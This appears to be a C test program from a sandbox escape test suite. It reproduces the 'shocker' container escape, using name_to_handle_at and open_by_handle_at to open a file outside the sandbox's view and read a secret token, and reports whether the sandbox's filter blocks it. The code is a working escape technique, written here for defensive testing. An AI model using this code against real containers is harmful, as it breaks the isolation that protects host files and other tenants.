/* Attack: open_by_handle_at, the "shocker" container escape. The driver
 * makes a file handle for a file outside the view (natively, with
 * name_to_handle_at, `handle TOKEN make PATH`); inside, the program opens
 * it relative to a mount that is in the view (the cwd: the same filesystem)
 * with open_by_handle_at, which never walks a path. It also asks
 * name_to_handle_at for a handle of a denied file in the view.
 *
 * Stops it: layer 3, the filter answers name_to_handle_at and
 * open_by_handle_at with EPERM (and neither a root guest, with its bounded
 * capabilities, nor a user has CAP_DAC_READ_SEARCH).
 * Natively, as root: the handle opens the file outside and reads the secret
 * (ESCAPED). As another user the kernel refuses (EPERM, CAP_DAC_READ_SEARCH)
 * and the driver skips the native check.
 *
 * Usage: handle TOKEN make PATH          (prints the handle in hex)
 *        handle TOKEN open HEX [DENIED]  (the attack)
 */
#include "escape.h"

static struct {
	struct file_handle fh;
	unsigned char bytes[MAX_HANDLE_SZ];
} h;

int main(int argc, char **argv)
{
	escape_init(argc, argv, "open_by_handle_at", 2, "make PATH | open HEX [DENIED]");
	if (strcmp(argv[2], "make") == 0) {
		int mount_id;
		h.fh.handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, argv[3], &h.fh, &mount_id, 0) < 0)
			setup_failed("name_to_handle_at %s: %s", argv[3], strerror(errno));
		printf("%08x:", (unsigned)h.fh.handle_type);
		for (unsigned i = 0; i < h.fh.handle_bytes; i++)
			printf("%02x", h.bytes[i]);
		printf("\n");
		return 0;
	}
	const char *hex = argv[3];
	unsigned type;
	if (sscanf(hex, "%8x:", &type) != 1 || strlen(hex) < 9)
		setup_failed("bad handle %s", hex);
	h.fh.handle_type = (int)type;
	h.fh.handle_bytes = 0;
	for (const char *p = hex + 9; p[0] && p[1] && h.fh.handle_bytes < MAX_HANDLE_SZ; p += 2) {
		unsigned byte;
		if (sscanf(p, "%2x", &byte) != 1)
			setup_failed("bad handle %s", hex);
		h.bytes[h.fh.handle_bytes++] = (unsigned char)byte;
	}
	int mnt = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mnt < 0)
		setup_failed("open .: %s", strerror(errno));
	int fd = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		escape_note("open_by_handle_at(outside file): %s", strerror(errno));
	} else {
		char shown[256];
		if (fd_has_token(fd, shown, sizeof(shown)))
			escaped("open_by_handle_at(outside file): read \"%s\"", shown);
		escape_note("open_by_handle_at opened a file, no secret");
		close(fd);
	}
	if (argc > 4) {
		int mount_id;
		h.fh.handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, argv[4], &h.fh, &mount_id, 0) < 0) {
			escape_note("name_to_handle_at(denied file): %s", strerror(errno));
		} else {
			fd = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				escape_note("open_by_handle_at(denied file): %s", strerror(errno));
			} else {
				char shown[256];
				if (fd_has_token(fd, shown, sizeof(shown)))
					escaped("open_by_handle_at(denied file): read \"%s\"",
					        shown);
				close(fd);
			}
		}
	}
	contained();
}
